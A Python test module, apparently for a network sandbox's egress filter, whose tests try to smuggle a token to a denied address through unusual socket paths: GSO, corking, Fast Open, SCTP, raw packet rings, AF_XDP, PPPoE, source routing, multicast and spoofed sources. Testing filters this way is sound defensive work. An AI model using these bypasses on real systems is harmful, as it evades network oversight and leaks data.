"""Ways out by what sockets can do beside sending a datagram to an address: their options, types that few use, packets that
the kernel sends for them."""

import contextlib
import ctypes
import mmap
import socket
import struct
import sys

import pytest

from tests.attack import frames, moves
from tests.attack.suite import BOTH_MODES, NO_FAMILY, SENTINEL, attack
from tests.support import attacker
from tests.support.tap import Tap
from tests.support.waiting import wait_until

PORT = 7777
IP_OPTIONS, IP_TRANSPARENT, IPV6_RTHDR, IPV6_TRANSPARENT, IPV6_FREEBIND = 4, 19, 57, 75, 78
UDP_CORK, UDP_SEGMENT, SO_ZEROCOPY = 1, 103, 60
MSG_MORE, MSG_CONFIRM, MSG_ZEROCOPY, MSG_FASTOPEN = 0x8000, 0x800, 0x4000000, 0x20000000
UDPLITE, SCTP, MPTCP, AF_PPPOX = 136, 132, 262, 24
AF_XDP, SOL_XDP, XDP_COPY = 44, 283, 2
XDP_PGOFF_TX_RING = 0x80000000
XDP_MMAP_OFFSETS, XDP_TX_RING, XDP_UMEM_REG, XDP_UMEM_FILL_RING, XDP_UMEM_COMPLETION_RING = 1, 3, 4, 5, 6
SOL_PACKET, PACKET_TX_RING, PACKET_VNET_HDR, TP_STATUS_SEND_REQUEST, GSO_UDP_L4 = 263, 13, 15, 1, 5


_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]


# --- moves ---

def send_as(address, port, data, way):
    """A datagram sent in another way than by sendto()."""
    family = moves.family_of(address)
    data = data.encode()
    with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as sock:
        if way == "segments":
            sock.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, 40)
            sock.sendto(data * 20, (address, port))
        elif way == "corked":
            sock.connect((address, port))
            sock.send(data, MSG_MORE)
            sock.send(data)
        elif way == "corked and closed":
            sock.connect((address, port))
            sock.setsockopt(socket.IPPROTO_UDP, UDP_CORK, 1)
            sock.send(data)
        elif way == "zerocopy":
            sock.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
            sock.sendto(data * 100, MSG_ZEROCOPY, (address, port))
        elif way == "confirm":
            sock.sendto(data, MSG_CONFIRM, (address, port))


def send_after_another(allowed, address, port, data):
    """From a socket that was connected to an allowed address and has sent something there."""
    family = moves.family_of(address)
    for again in False, True:
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.connect((allowed, port))
            with contextlib.suppress(OSError):
                sock.send(b"allowed")
            for _ in range(2):  # the first may get the error of the one before
                with contextlib.suppress(OSError):
                    if again:
                        sock.connect((address, port))
                        sock.send(data.encode())
                    else:
                        sock.sendto(data.encode(), (address, port))


def fast_open(address, port, data):
    """Data in the first packet of a connection (RFC 7413)."""
    with contextlib.suppress(OSError), socket.socket(moves.family_of(address), socket.SOCK_STREAM) as sock:
        sock.settimeout(0.2)
        sock.sendto(data.encode(), MSG_FASTOPEN, (address, port))


def typed(address, port, data, kind, protocol):
    """False when the kernel knows no such socket."""
    try:
        sock = socket.socket(moves.family_of(address), kind, protocol)
    except OSError:
        return False
    with sock, contextlib.suppress(OSError):
        sock.settimeout(0.2)
        sock.connect((address, port))
        sock.send(data.encode())
    return True


def from_source(source, address, port, data, level, option):
    """A socket bound to an address that is nobody's here, which takes no capability with FREEBIND."""
    with socket.socket(moves.family_of(address), socket.SOCK_DGRAM) as sock:
        sock.setsockopt(level, option, 1)
        sock.bind((source, 0))
        with contextlib.suppress(OSError):
            sock.sendto(data.encode(), (address, port))


def join(device, *groups):
    """Joins multicast groups, which the kernel tells the routers (RFC 3376, RFC 3810), until a line comes."""
    index = socket.if_nametoindex(device)
    with contextlib.ExitStack() as stack:
        for group in groups:
            sock = stack.enter_context(socket.socket(moves.family_of(group), socket.SOCK_DGRAM))
            packed = socket.inet_pton(sock.family, group)
            if ":" in group:
                sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, packed + struct.pack("=i", index))
            else:
                sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, packed + struct.pack("=4si", b"", index))
        print("ready", flush=True)
        sys.stdin.readline()


def packet_dgram(device, mac, data, *protocols):
    """A packet socket that has the kernel write the head of the frame."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0) as sock:
        for protocol in protocols:
            with contextlib.suppress(OSError):
                sock.sendto(data.encode(), (device, protocol, 0, 0, bytes.fromhex(mac.replace(":", ""))))


def packet_ring(device, mac, data):
    """A packet socket that sends what it finds in shared memory (PACKET_TX_RING)."""
    frame = bytes.fromhex(mac.replace(":", "")) + b"\2\0\0\0\0\1\x88\xb5" + data.encode()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sock:
        sock.setsockopt(SOL_PACKET, PACKET_TX_RING, struct.pack("=IIII", 4096, 1, 2048, 2))
        sock.bind((device, 0))
        with mmap.mmap(sock.fileno(), 4096) as ring:
            ring[32:32 + len(frame)] = frame
            ring[0:8] = struct.pack("=II", 0, 0)
            ring[8:12] = struct.pack("=I", len(frame))
            ring[0:4] = struct.pack("=I", TP_STATUS_SEND_REQUEST)
            with contextlib.suppress(OSError):
                sock.send(b"")


def packet_with_offload(device, mac, own, destination, data):
    """A packet socket whose frames the kernel cuts into segments (PACKET_VNET_HDR, include/uapi/linux/virtio_net.h)."""
    ip_size = 40 if ":" in own else 20
    head = struct.pack("=BBHHHH", 1, GSO_UDP_L4, 14 + ip_size + 8, 400, 14 + ip_size, 6)
    packet = attacker.udp_packet(own, 4444, destination, PORT, data.encode() * 100)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sock, contextlib.suppress(OSError):
        sock.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
        sock.sendto(head + attacker.frame_of(packet, mac), (device, attacker.ethertype(packet)))


def pppoe(device, mac, data):
    """A PPP session over Ethernet: no capability asked for."""
    try:
        sock = socket.socket(AF_PPPOX, socket.SOCK_STREAM, 0)
    except PermissionError:
        raise
    except OSError:
        return False
    with sock:
        address = struct.pack("=HI", AF_PPPOX, 0) + struct.pack("!H", 1) + bytes.fromhex(mac.replace(":", "")) + \
            device.encode().ljust(16, b"\0")
        _libc.connect(sock.fileno(), address, len(address))
        _libc.send(sock.fileno(), data.encode(), len(data), 0)
    return True


@contextlib.contextmanager
def _xdp_socket(device):
    """One that is bound to the device's first queue, with its memory, whose first descriptor says where a frame of a size
    is; None when it cannot be bound."""
    with socket.socket(AF_XDP, socket.SOCK_RAW, 0) as sock, mmap.mmap(-1, 4 * 4096) as memory:
        address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        sock.setsockopt(SOL_XDP, XDP_UMEM_REG, struct.pack("=QQIII4x", address, 4 * 4096, 4096, 0, 0))
        for ring in XDP_TX_RING, XDP_UMEM_FILL_RING, XDP_UMEM_COMPLETION_RING:
            sock.setsockopt(SOL_XDP, ring, 4)
        where = struct.pack("=HHIII", AF_XDP, XDP_COPY, socket.if_nametoindex(device), 0, 0)
        bound = _libc.bind(sock.fileno(), where, len(where)) == 0
        yield (sock, memory) if bound else (None, None)


def xdp(device, mac, data):
    """A frame by shared memory (AF_XDP): past queues and hooks."""
    frame = bytes.fromhex(mac.replace(":", "")) + b"\2\0\0\0\0\1\x88\xb5" + data.encode()
    with _xdp_socket(device) as (sock, memory):
        if not sock:
            return
        memory[:len(frame)] = frame
        producer, _, descriptors = struct.unpack("=16Q", sock.getsockopt(SOL_XDP, XDP_MMAP_OFFSETS, 128))[4:7]
        ring = _libc.mmap(None, 4096, mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_SHARED, sock.fileno(), XDP_PGOFF_TX_RING)
        ctypes.memmove(ring + descriptors, struct.pack("=QII", 0, len(frame), 0), 16)
        ctypes.c_uint32.from_address(ring + producer).value = 1
        _libc.sendto(sock.fileno(), None, 0, socket.MSG_DONTWAIT, None, 0)


def xdp_is_busy(device):
    """Whether the queue is somebody's."""
    with _xdp_socket(device) as (sock, _):
        return not sock


def xdp_for_long(device):
    """Keeps the queue until a line comes."""
    with _xdp_socket(device) as (sock, _):
        assert sock
        print("ready", flush=True)
        sys.stdin.readline()


# --- attacks ---

@attack()
def datagrams_sent_in_other_ways(scene):
    """In segments, corked, without a copy, with a neighbour confirmed."""
    scene.guard()
    for way in "segments", "corked", "corked and closed", "zerocopy", "confirm":
        scene.run(send_as, scene.denied, PORT, scene.token, way)
    return scene.left()


@attack()
def datagrams_of_a_socket_that_was_allowed(scene):
    """Its route, and what the kernel knows of its flow, are another's."""
    scene.guard()
    scene.run(send_after_another, scene.allowed, scene.denied, PORT, scene.token)
    return scene.left()


@attack()
def data_in_the_first_packet_of_a_connection(scene):
    scene.guard()
    scene.run(fast_open, scene.denied, 80, scene.token)
    return scene.left()


def _typed(scene, kind, protocol):
    scene.guard()
    if scene.run(typed, scene.denied, PORT, scene.token, kind, protocol) is False:
        pytest.skip("this kernel has no such protocol")
    return scene.left()


@attack()
def udp_lite(scene):
    return _typed(scene, socket.SOCK_DGRAM, UDPLITE)


@attack()
def mptcp(scene):
    return _typed(scene, socket.SOCK_STREAM, MPTCP)


@attack()
def sctp(scene):
    return _typed(scene, socket.SOCK_STREAM, SCTP)


@attack()
def echo_request_without_a_capability(scene):
    """Whom net.ipv4.ping_group_range lets: every group in many distributions and in Docker."""
    scene.enter(scene.sandbox.sysctl("net/ipv4/ping_group_range", "0\t2147483647"))
    scene.guard()
    scene.run(ping, scene.denied, scene.token)
    return scene.left()


def ping(address, data):
    v6 = ":" in address
    with socket.socket(moves.family_of(address), socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6 if v6 else 1) as sock:
        with contextlib.suppress(OSError):
            sock.sendto(bytes([128 if v6 else 8, 0, 0, 0, 0, 1, 0, 1]) + data.encode(), (address, 0))


@attack(families=(6,))
def source_of_somebody_else(scene):
    """FREEBIND takes no capability; of IPv4 the kernel looks at the source once more. To an allowed address, which would
    answer others."""
    scene.guard()
    scene.run(from_source, scene.foreign, scene.allowed, PORT, scene.token, socket.IPPROTO_IPV6, IPV6_FREEBIND)
    return scene.left(scene.foreign)


@attack(net_raw=True)
def source_of_somebody_else_by_transparent(scene):
    scene.guard()
    level, option = (socket.IPPROTO_IPV6, IPV6_TRANSPARENT) if scene.v6 else (socket.IPPROTO_IP, IP_TRANSPARENT)
    scene.run(from_source, scene.foreign, scene.allowed, PORT, scene.token, level, option)
    return scene.left(scene.foreign)


@attack(families=(4,), net_raw=True)
def route_of_the_senders_choice(scene):
    """By way of an allowed host (RFC 791, loose and strict source route): its address is what the rules see."""
    scene.guard()
    for kind in 0x83, 0x89:
        route = bytes([kind, 11, 4]) + socket.inet_aton(scene.allowed) + socket.inet_aton(scene.denied) + b"\0"
        scene.run(moves.send, scene.denied, PORT, scene.token, None, [(socket.IPPROTO_IP, IP_OPTIONS, route.hex())])
    return scene.left()


@attack(families=(6,))
def segments_of_the_senders_choice(scene):
    """The same with a segment routing header (RFC 8754), which takes no capability."""
    scene.guard()
    hops = socket.inet_pton(socket.AF_INET6, scene.denied) + socket.inet_pton(socket.AF_INET6, scene.allowed)
    header = struct.pack("!BBBBBBH", 0, len(hops) // 8, 4, 1, 1, 0, 0) + hops
    scene.run(moves.send, scene.denied, PORT, scene.token, None, [(socket.IPPROTO_IPV6, IPV6_RTHDR, header.hex())])
    return scene.left()


@attack()
def everybody_on_the_link(scene):
    """Broadcast and multicast: mDNS, SSDP, LLMNR, all hosts."""
    scene.guard()
    groups = ["ff02::1%eth0", "ff02::fb%eth0", "ff02::1:3%eth0", "ff05::c%eth0", "ff01::1%eth0", "ff0e::77%eth0"] \
        if scene.v6 else ["255.255.255.255", "10.0.5.255", "224.0.0.1", "224.0.0.251", "239.255.255.250", "232.1.1.1"]
    for group in groups:
        scene.run(moves.send, group, PORT, scene.token, "eth0", [(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)])
    return scene.left()


@attack(families=(4,))
def igmp_reports(scene):
    """28 bits a group."""
    scene.guard()
    number = int(scene.token) & 0xffffff
    group = f"239.{number >> 16}.{number >> 8 & 0xff}.{number & 0xff}"
    scene.beside(join, "eth0", group)()
    return scene.left(group)


@attack()
def nobodys_address(scene):
    """0.0.0.0 and :: mean this host, but for a socket that is bound to a device."""
    scene.guard()
    for device in None, "eth0":
        for address in ["::", "::ffff:0.0.0.0"] if scene.v6 else ["0.0.0.0", "0.1.2.3"]:
            scene.run(moves.send, address, PORT, scene.token, device)
    return scene.left()


@attack(families=NO_FAMILY, net_raw=True)
def packet_socket_of_datagrams(scene):
    scene.guard()
    scene.run(packet_dgram, "eth0", scene.mac, scene.token, 0x0800, 0x86dd, 0x8864, 0x88b5)
    return scene.left()


@attack(families=NO_FAMILY, net_raw=True)
def packet_socket_with_a_ring(scene):
    scene.guard()
    scene.run(packet_ring, "eth0", scene.mac, scene.token)
    return scene.left()


@attack(net_raw=True)
def packet_socket_with_offload(scene):
    scene.guard()
    scene.run(packet_with_offload, "eth0", scene.mac, scene.own, scene.denied, scene.token)
    return scene.left()


@attack(families=NO_FAMILY)
def pppoe_session(scene):
    scene.guard()
    if scene.run(pppoe, "eth0", scene.mac, scene.token) is False:
        pytest.skip("this kernel has no PPPoE")
    return scene.left()


@attack(families=NO_FAMILY, modes=BOTH_MODES, net_raw=True)
def xdp_socket(scene):
    """Past every hook, questions, too; but the queues are the sidecar's."""
    scene.guard()
    scene.run(xdp, "eth0", scene.mac, scene.token)
    return scene.left()


@attack(families=NO_FAMILY, net_raw=True)
def xdp_socket_on_a_device_that_came_later(scene):
    sidecar = scene.guard()
    scene.internet.ip(f"link add late type veth peer name late netns {scene.sandbox.name}")
    with contextlib.ExitStack() as stack:
        stack.callback(scene.internet.ip, "link del late")
        for namespace in scene.sandbox, scene.internet:
            namespace.ip("link set late up")
        if sidecar:
            wait_until(lambda: frames.guarded(scene, "late"), what="the device to be guarded")
            for _ in range(2):  # the loop answers, so it has heard that the device is up
                sidecar.request("GET", "/policy/explain?target=www.allowed.test")
        late = stack.enter_context(contextlib.closing(Tap(scene.internet, "late")))
        scene.run(xdp, "late", scene.mac, scene.token)
        scene.sandbox.ip("addr add 10.0.6.2/24 dev late")
        scene.internet.ip("addr add 10.0.6.1/24 dev late")
        scene.sandbox.ip(f"route add {SENTINEL[0]} via 10.0.6.1 dev late")
        return late.catch_up(scene.sandbox).holding(scene.token.encode())
